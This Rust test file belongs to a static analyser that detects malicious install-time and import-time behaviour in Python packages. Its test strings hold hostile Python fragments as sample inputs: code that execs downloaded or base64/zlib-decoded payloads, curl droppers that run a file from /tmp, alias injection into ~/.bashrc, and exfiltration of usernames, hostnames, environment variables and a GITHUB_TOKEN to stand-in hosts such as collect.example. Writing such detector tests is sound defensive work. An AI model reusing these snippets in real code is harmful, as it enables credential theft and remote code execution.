use super::*;

fn kinds(source: &str, all: bool) -> Vec<(SignalKind, Reach)> {
    let mut kinds: Vec<(SignalKind, Reach)> = analyse(source, all)
        .signals
        .into_iter()
        .map(|s| (s.kind, s.reach))
        .collect();
    kinds.sort_by_key(|(k, _)| *k);
    kinds.dedup();
    kinds
}

fn has(source: &str, kind: SignalKind) -> bool {
    kinds(source, true).iter().any(|(k, _)| *k == kind)
}

#[test]
fn exec_of_decoded_data_through_aliases_and_lambdas() {
    assert!(has(
        "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "from zlib import decompress as d\n_ = lambda x: d(x[::-1])\nexec((_)(b'...'))",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "import marshal\nc = marshal.loads(blob)\nexec(c)",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "def f():\n    return __import__('base64').b64decode(X)\nexec(f())",
        SignalKind::ExecDecoded
    ));
}

#[test]
fn indirect_calls_resolve() {
    assert!(has(
        "getattr(__builtins__, 'ex' + 'ec')(payload)",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "vars(__builtins__)['ex'+'ec'](payload)",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "globals()['__builtins__']\n__import__('o'+'s').system('id')",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "_add, While = exec, str\n_add(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
        SignalKind::ExecBuilt
    ));
    assert!(has(
        "s = getattr(__import__('os'), 'sys'+'tem')\ns('id')",
        SignalKind::IndirectCall
    ));
}

#[test]
fn downloads_run() {
    assert!(has(
        "import requests\nexec(requests.get('http://x.example/p').text)",
        SignalKind::ExecDownloaded
    ));
    assert!(has(
        "from urllib.request import urlopen\nwith urlopen(u) as r:\n    code = r.read()\nexec(code)",
        SignalKind::ExecDownloaded
    ));
    assert!(has(
        "import urllib.request, os\np = urllib.request.urlretrieve(u, 'a.exe')\nos.startfile(p)",
        SignalKind::DownloadRun
    ));
}

#[test]
fn host_identity_sent_is_exfiltration() {
    assert!(has(
        "import requests, getpass\nrequests.get('https://x.example/?u=' + getpass.getuser())",
        SignalKind::ExfilFlow
    ));
    assert!(has(
        "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', h + '.x.example'])",
        SignalKind::ExfilFlow
    ));
    assert!(has(
        "import os, requests\nrequests.post(U, data=str(os.environ))",
        SignalKind::ExfilFlow
    ));
}

#[test]
fn module_level_reach() {
    let source = "import os\ndef used():\n    os.system('curl x')\ndef unused():\n    os.popen('whoami')\nused()\n";
    let found = kinds(source, false);
    assert!(
        found.contains(&(SignalKind::ProcessExec, Reach::Always)),
        "{found:?}"
    );
    assert!(
        found.contains(&(SignalKind::ProcessExec, Reach::OnCall)),
        "{found:?}"
    );
}

#[test]
fn benign_build_idioms_stay_quiet() {
    let setup = "import subprocess, os\nexec(open('pkg/version.py').read())\n\
                 subprocess.check_call(['cmake', '..'])\nsubprocess.call(['pkg-config', '--libs', 'x'])\n\
                 v = os.environ.get('CC')\n";
    assert_eq!(kinds(setup, true), []);
}

#[test]
fn cmdclass_override_is_seen() {
    assert!(has(
        "from setuptools import setup\nsetup(name='x', cmdclass={'install': Post})",
        SignalKind::InstallOverride
    ));
}

#[test]
fn data_handed_to_a_local_function_reaches_its_sinks() {
    // DNS exfiltration through a helper: the host name is an argument, the sink is a
    // lookup of a name built from it inside the helper.
    let source = "import socket\n\
        def send(data, kind):\n    hexed = data.encode().hex()\n    \
        socket.gethostbyname(f'{kind}.{hexed}.x.example.invalid')\n\
        send(socket.gethostname(), 'h')\n";
    assert!(
        has(source, SignalKind::ExfilFlow),
        "{:?}",
        kinds(source, true)
    );
    let keyword = "import os, requests\n\
        def post(payload=None):\n    requests.post('https://x.example.invalid', data=payload)\n\
        post(payload=dict(os.environ))\n";
    assert!(
        has(keyword, SignalKind::ExfilFlow),
        "{:?}",
        kinds(keyword, true)
    );
    let clean =
        "import socket\ndef send(data):\n    socket.gethostbyname(data)\nsend('pypi.org')\n";
    assert!(
        !has(clean, SignalKind::ExfilFlow),
        "{:?}",
        kinds(clean, true)
    );
}

#[test]
fn an_environment_handed_on_and_attribute_names_are_not_data() {
    // virtualenv-shaped: a download helper given `env=os.environ`, then a registry query
    // built from an attribute of what it returned.
    let source = "import os\nfrom urllib.request import urlopen\n\
        def query(distribution):\n    urlopen(f'https://pypi.org/pypi/{distribution}/json')\n\
        def update():\n    dest = download(name='pip', env=os.environ)\n    query(dest.distribution)\n\
        update()\n";
    assert!(
        !has(source, SignalKind::ExfilFlow),
        "{:?}",
        kinds(source, true)
    );
}

/// setuptools' `eval('"static", "shared", ...')` (the names of library kinds) runs no code;
/// code kept in the same kind of variable still counts (as a code string, written out in
/// the file; its payload is analysed).
#[test]
fn eval_of_a_plain_literal_is_not_code() {
    let plain = "expected = '\"static\", \"shared\", \"dylib\"'\nif kind not in eval(expected):\n    raise ValueError\n";
    assert!(!has(plain, SignalKind::ExecBuilt));
    assert!(!has(plain, SignalKind::DynamicExec));
    assert!(has(
        "code = 'import os; os.system(\"id\")'\nexec(code)",
        SignalKind::DynamicExec
    ));
    for inert in ["(1, -2.5, 'a')", "{'k': [True, None]}", "'x\\'y', \"z\""] {
        assert!(is_inert_literal(inert), "{inert}");
    }
    for code in [
        "f'{os.system(1)}'",
        "print(1)",
        "__import__('os')",
        "'a' 'b",
        "1 if x else 2",
        "0x10",
    ] {
        assert!(!is_inert_literal(code), "{code}");
    }
}

/// Our own cases of four shapes from 2025-26 PyPI write-ups: an alias planted in
/// `~/.bashrc` at import, a code object compiled from decompressed data, a download tool
/// writing a file that is then started, and a CI token sent to a collector. Each has a
/// benign twin that must stay quiet.
#[test]
fn planted_start_up_files_compiled_payloads_droppers_and_tokens() {
    assert!(has(
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=x')\n",
        SignalKind::PersistenceWrite
    ));
    assert!(has(
        "from pathlib import Path\n(Path.home() / '.zshrc').write_text('x')\n",
        SignalKind::PersistenceWrite
    ));
    assert!(!has(
        "with open('build/config.txt', 'w') as f:\n    f.write('x')\n",
        SignalKind::PersistenceWrite
    ));
    // `open(...).write(...)` with the path built in an f-string from folded parts (our
    // reconstruction of a shift-cipher payload appended to every user's `.bashrc`); its twin
    // writes a built path inside the project.
    assert!(has(
        "rc = '.ba' + 'shrc'\nfor user in users:\n    open(f'/home/{user}/{rc}', 'a').write(line)\n",
        SignalKind::PersistenceWrite
    ));
    assert!(!has(
        "name = 'config' + '.txt'\nopen(f'build/{name}', 'w').write(text)\n",
        SignalKind::PersistenceWrite
    ));
    assert!(has(
        "import zlib, types\nc = compile(zlib.decompress(b'x\\x9c+(\\xca\\xcc+'), '<x>', 'exec')\ntypes.FunctionType(c, {})()\n",
        SignalKind::ExecDecoded
    ));
    assert!(!has(
        "import re\nc = compile(source, name, 'exec')\nr = re.compile('a+')\n",
        SignalKind::ExecDecoded
    ));
    let dropper = "import subprocess, os\nsubprocess.run(['curl', '-s', 'https://cdn.example/u', '-o', '/tmp/.u'])\nos.chmod('/tmp/.u', 0o755)\nsubprocess.Popen(['/tmp/.u'])\n";
    assert!(has(dropper, SignalKind::DownloadRun));
    assert!(!has(
        "import subprocess\nsubprocess.run(['curl', '-sL', 'https://cdn.example/t.tgz', '-o', 't.tgz'])\nsubprocess.run(['tar', 'xzf', 't.tgz'])\n",
        SignalKind::DownloadRun
    ));
    let token = "import os, urllib.request\ntok = os.environ.get('GITHUB_TOKEN', '')\nurllib.request.urlopen('https://collect.example/t?d=' + tok)\n";
    assert!(has(token, SignalKind::ExfilFlow));
    assert!(!has(
        "import os, urllib.request\ntok = os.environ.get('GITHUB_TOKEN', '')\nurllib.request.urlopen('https://api.github.com/user?t=' + tok)\n",
        SignalKind::ExfilFlow
    ));
}

/// An obfuscator that renames everything into another script is obfuscation; a library
/// that aliases a few classes in their own script (pyparsing's `漢字 = Kanji`) is not.
#[test]
fn non_ascii_identifiers_count_when_they_are_most_names() {
    let renamed: String = (0..10)
        .map(|i| format!("变量{i} = 函数{i}(值{i})\n"))
        .collect();
    assert!(has(&renamed, SignalKind::Obfuscator));
    let mut aliases: String = (0..10).map(|i| format!("名前{i} = Name{i}\n")).collect();
    aliases.extend((0..60).map(|i| format!("value_{i} = compute_{i}(item_{i})\n")));
    assert!(!has(&aliases, SignalKind::Obfuscator));
}

/// A setup script that starts a Windows program shipped in the package (our own case of a
/// common dropper shape); its twin looks for the compiler.
#[test]
fn a_shipped_windows_program_started_is_an_executable() {
    assert!(has(
        "import subprocess, os\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'x', 'update.exe')])\n",
        SignalKind::ExecutableDrop
    ));
    assert!(has(
        "import os\nos.system('start /b %TEMP%\\\\svchost.scr')\n",
        SignalKind::ExecutableDrop
    ));
    // A tool found on PATH (numpy's MinGW support runs `objdump.exe`).
    assert!(!has(
        "import subprocess\nsubprocess.check_output(['objdump.exe', '-p', dll])\n",
        SignalKind::ExecutableDrop
    ));
    assert!(!has(
        "import subprocess\nsubprocess.check_output(['vswhere.exe', '-latest', '-property', 'installationPath'])\n",
        SignalKind::ExecutableDrop
    ));
}

/// A resolver looking up the machine's own name (dnspython's `getaddrinfo(gethostname())`)
/// sends nothing; the same identity built into a longer name is a DNS beacon.
#[test]
fn resolving_the_own_host_name_is_not_exfiltration() {
    assert!(!has(
        "import socket\nhost = socket.gethostname()\nsocket.getaddrinfo(host, 80)\n",
        SignalKind::ExfilFlow
    ));
    assert!(has(
        "import socket\nhost = socket.gethostname()\nsocket.gethostbyname(host + '.beacon.example.invalid')\n",
        SignalKind::ExfilFlow
    ));
}

/// The environment copied to start a program with it (versioneer's `git` runner) is not
/// harvested; a copy sent away is.
#[test]
fn an_environment_copied_for_a_child_process_is_not_harvested() {
    assert!(!has(
        "import os, subprocess\ndef run():\n    env = os.environ.copy()\n    env.pop('GIT_DIR', None)\n    subprocess.run(['git', 'describe'], env=env)\nrun()\n",
        SignalKind::EnvHarvest
    ));
    assert!(!has(
        "import os, subprocess\ndef run(cmd, env=None):\n    env = env if env is not None else dict(os.environ)\n    subprocess.check_output(cmd, env=env)\nrun(['cc'])\n",
        SignalKind::EnvHarvest
    ));
    assert!(has(
        "import os, requests\nenv = os.environ.copy()\nrequests.post('https://c.example.invalid', json=env)\n",
        SignalKind::EnvHarvest
    ));
}
